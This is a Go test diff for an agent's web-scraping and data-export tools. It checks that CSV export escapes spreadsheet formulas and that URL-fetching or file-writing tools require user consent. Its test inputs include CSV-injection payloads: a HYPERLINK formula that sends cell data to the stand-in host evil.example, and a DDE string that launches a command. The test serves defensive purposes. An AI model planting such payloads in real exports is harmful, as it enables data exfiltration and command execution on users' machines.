@@ -85,6 +85,40 @@ func TestExportFormats(t *testing.T) {
 	}
 }
 
+// Cells a spreadsheet would run as formulas are written as text (OWASP CSV
+// injection); numbers, including negative ones, stay numbers.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	cfg := loopbackOnly()
+	cfg.ExportDir = filepath.Join(t.TempDir(), "exports")
+	ts := newTools(t, cfg)
+	records := []map[string]any{
+		{"a": "=HYPERLINK(\"https://evil.example/?\"&B2,\"click\")", "b": "+1+1", "c": "-2+3+cmd|' /C calc'!A0", "d": "@SUM(1,1)"},
+		{"a": "\t=1+1", "b": "\r=1+1", "c": json.Number("-5"), "d": "plain = text"},
+	}
+	_, env := ts.call(t, context.Background(), NameExportData, map[string]any{
+		"records": records, "filename": "formulas.csv", "columns": []string{"a", "b", "c", "d", "=cmd"},
+	})
+	if env.Status != StatusSuccess {
+		t.Fatalf("export: %+v", env.Errors)
+	}
+	data, err := os.ReadFile(decode[ExportResult](t, env).Path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{
+		{"a", "b", "c", "d", "'=cmd"},
+		{`'=HYPERLINK("https://evil.example/?"&B2,"click")`, "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1,1)", ""},
+		{"'\t=1+1", "'\r=1+1", "-5", "plain = text", ""},
+	}
+	if !equalRows(rows, want) {
+		t.Errorf("CSV rows = %q, want %q", rows, want)
+	}
+}
+
 func equalRows(a, b [][]string) bool {
 	if len(a) != len(b) {
 		return false
@@ -157,18 +191,26 @@ func TestExportRefusesEscapesAndOverwrites(t *testing.T) {
 
 func TestToolAnnotations(t *testing.T) {
 	ts := newTools(t, loopbackOnly())
-	for name, want := range map[string]struct{ readOnly, openWorld, destructive bool }{
-		NameScrapePage:  {true, true, false},
-		NameAnalyzeSite: {true, true, false},
-		NameGetStatus:   {true, false, false},
-		NameListPresets: {true, false, false},
-		NameExportData:  {false, false, false},
-		NameScrapeAPI:   {false, true, true},
+	// asks: whether otter's agent asks before running the tool. Every tool
+	// that fetches a URL the model chose asks, read-only or not, since the
+	// URL can carry data out (analyze_site too, though seed 000 called it
+	// "basic"); export_data asks as it writes files, and overwrite: true
+	// replaces one (destructive).
+	for name, want := range map[string]struct{ readOnly, openWorld, destructive, asks bool }{
+		NameScrapePage:  {true, true, false, true},
+		NameAnalyzeSite: {true, true, false, true},
+		NameGetStatus:   {true, false, false, false},
+		NameListPresets: {true, false, false, false},
+		NameExportData:  {false, false, true, true},
+		NameScrapeAPI:   {false, true, true, true},
 	} {
 		info := ts[name].Info()
 		a := info.Annotations
 		if a == nil || a.ReadOnlyHint != want.readOnly || a.OpenWorldHint == nil || *a.OpenWorldHint != want.openWorld || info.Destructive() != want.destructive {
 			t.Errorf("%s annotations = %+v, want %+v", name, a, want)
+		}
+		if asks, why := info.NeedsConsent(); asks != want.asks {
+			t.Errorf("%s asks before running = %v (%q), want %v", name, asks, why, want.asks)
 		}
 		var schema map[string]any
 		if err := json.Unmarshal(info.InputSchema, &schema); err != nil || schema["type"] != "object" {
